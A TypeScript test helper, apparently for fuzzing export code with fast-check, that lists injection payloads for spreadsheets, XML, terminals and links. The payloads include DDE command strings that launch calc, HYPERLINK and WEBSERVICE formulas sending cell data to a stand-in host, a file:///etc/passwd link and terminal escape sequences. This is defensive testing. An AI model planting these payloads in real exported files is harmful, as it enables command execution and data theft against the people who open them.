import fc from "fast-check";
import { readFileSync } from "node:fs";
import { join } from "node:path";

const LISTED = readFileSync(join(__dirname, "../fixtures/injection/payloads.md"), "utf8");

/** Lines of the code blocks of the list, as it stands there. */
function listed(): readonly string[] {
  const lines: string[] = [];
  let isCode = false;
  for (const line of LISTED.split("\n")) {
    if (line.trim().startsWith("```")) isCode = !isCode;
    else if (isCode && line.trim() !== "") lines.push(line.trim());
  }
  return lines;
}

/** Amounts that people write as text and that no guard may touch. */
export const NEGATIVE_AMOUNTS = ["- 15 250", "-11 000", "-15\u00a0250", "-0,5", "-1.250,00", "- 4 800 000"] as const;

/** Texts that were thought out here. */
export const OWN_PAYLOADS = [
  "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "+", "-", "@", "'", "''", "'=1+1", "'Rutine'", "{=1+1}", "=A1=", '=""&A1', "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://eksempel.no/"&A1,"klikk")', '=WEBSERVICE("http://eksempel.no")', '=IMAGE("http://eksempel.no/x.png")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u0000=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", "–1", "%1", "|1", ";=1+1", ",=1+1", '"=1+1"',
  "_x003D_1+1", "_x000D_=1+1", "_x005F_x003D_1", "&#61;1+1", "&lt;f&gt;1+1&lt;/f&gt;", "</t></is></c><c r=\"A9\"><f>1+1</f></c>", "]]><f>1+1</f>", '" onclick="x', "<![CDATA[=1+1]]>", "&amp;=1", "&xxe;", "<!DOCTYPE a>",
  "http://eksempel.no", "file:///etc/passwd", "javascript:alert(1)", "\\\\vert\\deling", "mailto:a@eksempel.no", "#Ark1!A1", "Ark1!A1", "'Ark1'!A1", "Statusark_2022_W02_09_1e",
  "&L&R&P&N&D&F", "R&R", "&R&8", "&\"Arial\"&72x", "&G", "../../x", "..\\x", "a/b\\c?d*e[f]:g", "History", "con", "__proto__", "constructor", "toString", "A1", "R1C1", "TRUE", "SANN", "#REF!", "1/2", "1-2", "Mar2", "1E5", "00123", "12:30", "5%",
  "\u001b[2J\u001b]0;x\u0007", "\u001b]8;;http://eksempel.no\u0007x\u001b]8;;\u0007", "\u009b31mx", "\u0090x\u009c", "\u007f", "\u202emoc.tfosorcim", "\u2066x\u2069", "a\u2028b\u2029c", "x\r\ny", "\ud800", "\udc00x", "\ufffe", "\uffff", "😀".repeat(3), "=" + "A".repeat(300),
];

/** Texts that have made spreadsheets, XML, terminals or links do something: the public list, and one of each kind that our own sinks could fail on. */
export const PAYLOADS: readonly string[] = [...listed(), ...OWN_PAYLOADS, ...NEGATIVE_AMOUNTS];

const piece = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.constantFrom("=", "+", "-", "@", "'", '"', "&", "<", ">", "|", "!", "(", ")", "\t", "\r", "\n", "\u0000", " ", "\u00a0", "\ufeff", "_x003D_", "&R", "cmd", "SUM(A1)", "1", "0", "/", ".", "http://", "\u001b[", "\u009b", "\ud83d", "]]>", "<f>", "</f>"),
  fc.string({ unit: "binary", maxLength: 3 }),
);

/** Any payload, or pieces of payloads thrown together with anything else; at most 600 characters. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 4, arbitrary: fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join("").slice(0, 600)) },
);
